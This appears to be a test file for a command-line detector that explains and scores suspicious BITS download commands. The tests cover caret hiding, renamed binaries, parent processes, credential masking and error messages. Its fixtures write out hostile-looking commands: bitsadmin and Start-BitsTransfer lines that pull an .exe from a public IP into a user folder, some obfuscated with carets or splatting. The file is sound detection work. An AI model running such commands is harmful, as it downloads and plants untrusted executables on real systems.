/** One command line explained, as whole calls. */
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { cli, run } from './fixture.js';

interface Explained {
  readonly facts: Record<string, unknown> | null;
  readonly score: number;
  readonly threshold: number;
  readonly alerts: boolean;
  readonly signals: readonly { readonly id: string; readonly adds: number; readonly confidence: number; readonly confidence_after_relief: number }[];
  readonly benign: readonly { readonly id: string }[];
}

const explain = (...args: readonly string[]) => run(['explain', ...args], tmpdir());
const json = (...args: readonly string[]) => JSON.parse(explain(...args, '--format', 'json').out) as Explained;
const DOWNLOAD = 'bitsadmin /transfer job http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe';

test('facts of a hidden command, what it was, and the sum', () => {
  const { code, out, err } = explain(`cmd /c ${DOWNLOAD.replace('its', '^its')}`);
  expect([code, err]).toEqual([0, '']);
  for (const line of ['tool        bitsadmin', 'does        transfer', 'job         job', 'carried by  cmd', 'hidden by   caret', `decoded     ${DOWNLOAD}`]) expect(out.split('\n')).toContain(line);
  expect(out).toContain('transfer    download: http://203.0.113.7/a.exe (public address) -> C:\\Users\\Public\\a.exe\n');
  expect(out).toMatch(/^source-public-address +80 +75 % +60\.0 {2}the server of http/m);
  expect(out).toMatch(/score \d+ \(high\), at or above the threshold of 50\n$/);
});

test('the parts add up to the score, the worst first, and relief is shown', () => {
  const { signals, score, benign, alerts } = json('powershell Start-BitsTransfer https://download.microsoft.com/a.msi C:\\d\\a.msi', '--parent', 'C:\\Program Files\\Office\\winword.exe /x');
  expect(signals.map(({ id }) => id)).toEqual(['parent-office', 'destination-program', 'transfer']);
  expect(Math.round(signals.reduce((sum, { adds }) => sum + adds, 0))).toBe(score);
  expect([benign.map(({ id }) => id), alerts]).toEqual([['publisher-source'], true]);
  expect(signals[1]).toMatchObject({ confidence: 30, confidence_after_relief: 12 });
});

test('a threshold and the fields of an event', () => {
  expect(json(DOWNLOAD, '--threshold', '99')).toMatchObject({ threshold: 99, alerts: false });
  expect(json('x.exe /transfer job http://203.0.113.7/a.exe C:\\d\\a.exe', '--image', 'C:\\d\\x.exe', '--field', 'original_file_name=bitsadmin.exe').facts).toMatchObject({ hidden: ['renamed'], tools: ['bitsadmin'] });
  expect(json('--field', 'http_user_agent=Microsoft BITS/7.8', '--field', 'url=http://203.0.113.7/a?b=c').facts).toMatchObject({ evidence: 'proxy', transfers: [{ source: { text: 'http://203.0.113.7/a?b=c' } }] });
});

test.each([
  ['"C:\\Program Files\\a b\\mshta.exe" x', 'C:\\Program Files\\a b\\mshta.exe'], ['C:\\Program Files\\a b\\mshta.exe x', 'C:\\Program Files\\a b\\mshta.exe'], ['mshta x.exe', 'mshta'], ['  mshta', 'mshta'],
])('the program of the parent %s', (parent, image) => {
  expect(json(DOWNLOAD, '--parent', parent).facts).toMatchObject({ parent: { image, commandLine: parent } });
});

test('standard input, as a command line and as a script', () => {
  const piped = (input: string, ...args: readonly string[]) => spawnSync(process.execPath, [cli, 'explain', '-', ...args], { input, encoding: 'utf8' });
  expect(piped(`${DOWNLOAD}\r\n`).stdout).toContain(`decoded   ${DOWNLOAD}\n`);
  const { stdout } = piped('$p = @{Source = "http://203.0.113.7/a.exe"\nDestination = "C:\\d\\a.exe"}\nStart-BitsTransfer @p\n', '--script', '--format', 'json');
  expect((JSON.parse(stdout) as Explained).facts).toMatchObject({ evidence: 'script', hidden: expect.arrayContaining(['splatting']) as unknown, transfers: [{ destination: { text: 'C:\\d\\a.exe' } }] });
});

test('secrets are not shown, and nothing steers the terminal', () => {
  const { out } = explain('bitsadmin /setcredentials job SERVER BASIC pat s3cr3t\u001b[2J');
  expect(out).toContain('credentials  a user name, password or token is part of it');
  expect(out).not.toMatch(/s3cr3t|\u001b/);
});

test.each([
  [['notepad.exe a.txt'], 0, 'this says nothing about BITS\n'],
  [['notepad.exe', '--format', 'json'], 0, '{"facts":null,"score":0,"alerts":false,"signals":[],"benign":[]}\n'],
])('%j: nothing to say', (args, code, out) => {
  expect(explain(...args)).toEqual({ code, out, err: '' });
});

test.each([
  [[], 'explain needs a command line'], [['--field', 'x'], '--field needs a name and a value'], [['a', 'b'], 'explain does not know what to do with "b"'], [[DOWNLOAD, '--threshold', 'x'], 'whole number from 0 to 100'],
])('%j is wrong use: %s', (args, why) => {
  expect(explain(...args)).toMatchObject({ code: 2, out: '', err: expect.stringContaining(why) as string });
});
